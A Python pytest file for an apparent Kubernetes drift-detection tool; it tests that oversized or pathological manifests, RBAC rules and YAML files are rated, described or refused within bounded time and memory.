        [{"nonResourceURLs": NAMES, "verbs": NAMES}],
        [{"apiGroups": NAMES, "resources": NAMES, "verbs": ["get"]}],
        [{"apiGroups": NAMES, "resources": NAMES}],
        [{"resources": NAMES, "resourceNames": NAMES, "verbs": ["get"]}],
        [{"resources": ["x" * 100_000], "resourceNames": NAMES, "verbs": ["get"]}],
        [{"resources": [NAMES], "verbs": NAMES}],
        [{"resources": NAMES[:40], "verbs": NAMES[:40]}] * 10,
    ],
    ids=["URLs", "groups", "no verbs", "names", "a long name", "a list as a name", "the same rule again"],
)
def test_a_role_with_too_many_permissions_takes_little_memory(rules):
    tracemalloc.start()
    try:
        assert changed_permissions([], rules) is None
        assert tracemalloc.get_traced_memory()[1] < 10_000_000
    finally:
        tracemalloc.stop()
    field = FieldDrift("changed", "rules", [{"resources": ["pods"], "verbs": ["get"]}], rules)
    (fact,) = facts([ObjectDrift("rbac.authorization.k8s.io/v1", "ClusterRole", None, "a", "modified", (field,))])
    assert str(fact.text).startswith("ClusterRole a · rules ")


# ---------------------------------------------------------------- time


POD = "spec.template.spec.containers[name=a]"


def rule_of(name):
    return {"apiGroups": ["apps"], "resources": [name], "verbs": [name]}


@pytest.mark.parametrize(
    ("kind", "path", "item", "most"),
    [
        ("Deployment", f"{POD}.args", str, 20_000),
        ("Deployment", f"{POD}.args", (f"{'x' * 300}" + "{}").format, 20_000),  # above MAX_VALUES
        ("Deployment", f"{POD}.securityContext.capabilities.add", str, 20_000),
        ("RoleBinding", "subjects", lambda name: {"kind": "User", "name": name}, 20_000),
        ("ClusterRole", "rules", rule_of, 1_000),
    ],
    ids=["args", "large args", "capabilities", "subjects", "rules"],
)
def test_a_long_list_is_rated_in_linear_time(kind, path, item, most):
    def seconds(count):
        lists = [[item(f"{side}{number}") for number in range(count)] for side in "ab"]
        drift = [ObjectDrift("v1", kind, "shop", "web", "modified", (FieldDrift("changed", path, *lists),))]
        start = time.process_time()
        with_bounded_values(drift, MAX_VALUES)
        facts(drift)
        return time.process_time() - start

    # Quadratic time is 16 times as long; memory that no longer fits in caches adds to linear time.
    assert min(seconds(most) for _ in range(2)) < 12 * min(seconds(most // 4) for _ in range(3))


def alternating(count):
    """Texts that take difflib cubic time."""
    unique = [line for number in range(count) for line in ("x", f"u{number}")]
    return "\n".join(["A", *["x"] * count, "B\n"]), "\n".join(["C", *unique, "D\n"])


def test_a_card_of_many_texts_that_are_slow_to_align_takes_little_time():
    desired, _ = alternating(497)
    _, live = alternating(248)
    fields = tuple(FieldDrift("changed", f"data.k{number}", desired, live) for number in range(50))
    drift = ObjectDrift("v1", "ConfigMap", "shop", "web", "modified", fields)
    start = time.process_time()
    assert len(facts([drift])) == 50
    incident.card(ENGLISH, replace(OPEN, drift=(drift,)), OPEN.checked_at)
    assert time.process_time() - start < 5  # 200 s without a limit


SETTINGS = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata:\n  k: a\n"
SETTINGS_DRIFT = ObjectDrift(
    "v1", "ConfigMap", "shop", "settings", "modified", (FieldDrift("changed", "data.k", "a", "b"),)
)
LARGE_TEXTS = {
    "list": "l:\n" + "- a\n" * 500_000,
    "flow": f"l: [{'a,' * 500_000}]\n",
    "comments": "# a\n" * 500_000,
    "merges": "x: &x {a: b}\nl:\n" + "- <<: *x\n" * 3_000,
    "spaces": "#" + " " * 2**21 + "\n",
}


@pytest.mark.parametrize("text", LARGE_TEXTS.values(), ids=LARGE_TEXTS)
def test_a_file_that_is_slow_to_edit_is_refused(text):
    files = {"o/kustomization.yaml": b"resources: [a.yaml]\n" + text.encode()}
    manifests = [replace(manifest, namespace="shop") for manifest in read_manifests("a.yaml", SETTINGS.encode())]
    for adopted in (
        lambda: adopt("a.yaml", (SETTINGS + text).encode(), [SETTINGS_DRIFT], namespace="shop"),
        lambda: adopt_overlay("o", files, manifests, [SETTINGS_DRIFT]),
    ):
        start = time.process_time()
        with pytest.raises(NotAdoptableError, match="too large"):
            adopted()
        assert time.process_time() - start < 3  # minutes without a limit


def missing_settings(count, name="a{}", namespace="shop"):
    """The identity of tiny objects, and their drift."""
    keys = [(name.format(number), namespace.format(number)) for number in range(count)]
    metadata = [{"metadata": {"name": name, "namespace": namespace}} for name, namespace in keys]
    return metadata, [ObjectDrift("v1", "ConfigMap", namespace, name, "missing") for name, namespace in keys]


def many_documents(*args):
    objects, missing = missing_settings(*args)
    return "".join(f"---\napiVersion: v1\nkind: ConfigMap\n{json.dumps(each)[1:-1]}\n" for each in objects), missing


def many_items(count, list_kind="List", **fields):
    objects, missing = missing_settings(count)
    items = [{**fields, **each} for each in objects]
    return json.dumps({"apiVersion": "v1", "kind": list_kind, "items": items}), missing


@pytest.mark.parametrize(
    ("text", "missing", "is_refused"),
    [
        (*many_documents(20_000), True),
        (*many_documents(8_000, "a", "n{}"), True),
        (many_documents(8_000)[0], missing_settings(300)[1], False),
        (*many_items(2_000, apiVersion="v1", kind="ConfigMap"), False),
        (*many_items(2_500, "ConfigMapList"), False),
        (*many_items(15_000, apiVersion="v1", kind="ConfigMap"), True),
    ],
    ids=["all", "in many namespaces", "the first", "items", "items without a kind", "too many items"],
)
def test_many_missing_objects_are_removed_or_refused_in_little_time(text, missing, is_refused):
    file = "a.json" if text.startswith("{") else "a.yaml"
    start = time.process_time()
    with pytest.raises(NotAdoptableError, match="too large") if is_refused else nullcontext():
        adopted = adopt(file, text.encode(), missing, namespace="shop")
        assert adopted.count(b"metadata") == text.count("metadata") - len(missing)
    assert time.process_time() - start < 2  # up to minutes without an index


def test_large_live_values_are_not_adopted():
    field = FieldDrift("added", "spec.l", None, [1] * 500_000)
    start = time.process_time()
    with pytest.raises(NotAdoptableError, match="too large"):
        adopt("a.yaml", SETTINGS.encode(), [replace(SETTINGS_DRIFT, fields=(field,))], namespace="shop")
    assert time.process_time() - start < 3


def test_a_small_document_in_a_large_file_is_adopted():
    other = "---\nkind: Other\n" + LARGE_TEXTS["list"][:400_000] + "\n---\n"
    start = time.process_time()
    adopted = adopt("a.yaml", (other + SETTINGS).encode(), [SETTINGS_DRIFT], namespace="shop")
    assert adopted == (other + SETTINGS.replace("k: a", "k: b")).encode()
    assert time.process_time() - start < 5


def test_a_deeply_nested_document_is_not_edited():
    with pytest.raises(NotAdoptableError, match="by hand"):
        adopt("a.yaml", f"{SETTINGS}l: {'[' * 450}{']' * 450}\n".encode(), [SETTINGS_DRIFT], namespace="shop")


def test_a_file_that_is_slow_to_align_is_adopted():
    desired, live = alternating(900)
    head = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web}  # named\ndata:\n  k: |\n"
    before, after = (head + "".join(f"    {line}\n" for line in text.splitlines()) for text in (desired, live))
    drift = ObjectDrift("v1", "ConfigMap", "shop", "web", "modified", (FieldDrift("changed", "data.k", desired, live),))
    start = time.process_time()
    assert adopt("a.yaml", before.encode(), [drift], namespace="shop").decode() == after
    assert time.process_time() - start < 5  # a minute without a limit


LONG = "a" * 250_000
PRIVILEGED = {"securityContext": {"privileged": True}}


def nested(levels, value):
    return value if levels == 0 else {"a": nested(levels - 1, value)}


@pytest.mark.parametrize(
    ("path", "entries", "count"),
    [
        ("spec.values", lambda parts: {LONG: parts}, 1),
        ("spec.values", lambda parts: {LONG: {LONG: list(parts.values())}}, 1),
        ("spec.values", lambda parts: {"a" * 500: {"b" * 500: parts}}, 1),
        ("spec.values", lambda parts: nested(400, parts), 1),
        (f'spec.values["{LONG}"].a', lambda _: 1, 400),
        (f"spec.values[name={LONG}].a", lambda _: 1, 200),
    ],
    ids=["below a key", "in lists", "below two keys", "nested", "shared key", "shared item"],
)
def test_a_path_of_any_length_is_rated_in_linear_time(path, entries, count):
    """Each value below a key of 250 KB was rated by a path of 250 KB, which was kept."""
    parts = {f"k{number}": {"x": number} for number in range(2_000)}
    value = entries(parts | {"b": PRIVILEGED})
    fields = tuple(FieldDrift("added", f"{path}{number}", None, value) for number in range(count))
    drift = [ObjectDrift("example.com/v1", "Thing", "shop", "web", "modified", fields)]
    tracemalloc.start()
    try:
        with cpu_limit(10):
            rating, found = rate(drift), facts(drift)
        kept, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rating.reason is (Reason.PRIVILEGED if count == 1 else Reason.CUSTOM)
    assert max(fact.rating.severity for fact in found) is rating.severity
    assert len(found) >= count
    assert kept < 20_000_000
    assert peak < 60_000_000


def test_a_key_that_looks_like_a_path_is_described():
    """It raised a StopIteration."""
    field = FieldDrift("changed", 'spec.values["containers.livenessProbe"]', 1, 2)
    (fact,) = facts([ObjectDrift("example.com/v1", "Thing", "shop", "web", "modified", (field,))])
    assert str(fact.text) == "Thing web · values[containers.livenessProbe] 1 → 2"


def test_tolerations_that_servers_add_are_compared_in_linear_time():
    def seconds(count):
        lists = [
            [
                {"key": "node.kubernetes.io/not-ready", "effect": "NoExecute", "value": f"{side}{number}"}
                for number in range(count)
            ]
            for side in "ab"
        ]
        start = time.process_time()
        assert without_automatic_tolerations(*lists) == []
        return time.process_time() - start

    assert seconds(8_000) < GROWTH * min(seconds(2_000) for _ in range(3))


def test_comparing_does_not_use_up_the_time_of_a_list(tmp_path, monkeypatch):
    now = [0.0]
    monkeypatch.setattr(http_client, "time", SimpleNamespace(monotonic=lambda: now[0]))

    def compare(live):
        now[0] += 2 * bounds.LIST_SECONDS
        return live["metadata"]["name"]

    def answer(path):
        return [head(), page([config_map("b")]) if "continue=" in path else page([config_map("a")], "token")]

    with serving(answer) as url:
        cluster = KubernetesCluster("prod", kubeconfig=kubeconfig(tmp_path, url))
        assert list(cluster.list(CONFIG_MAPS, None, compare).values()) == ["a", "b"]
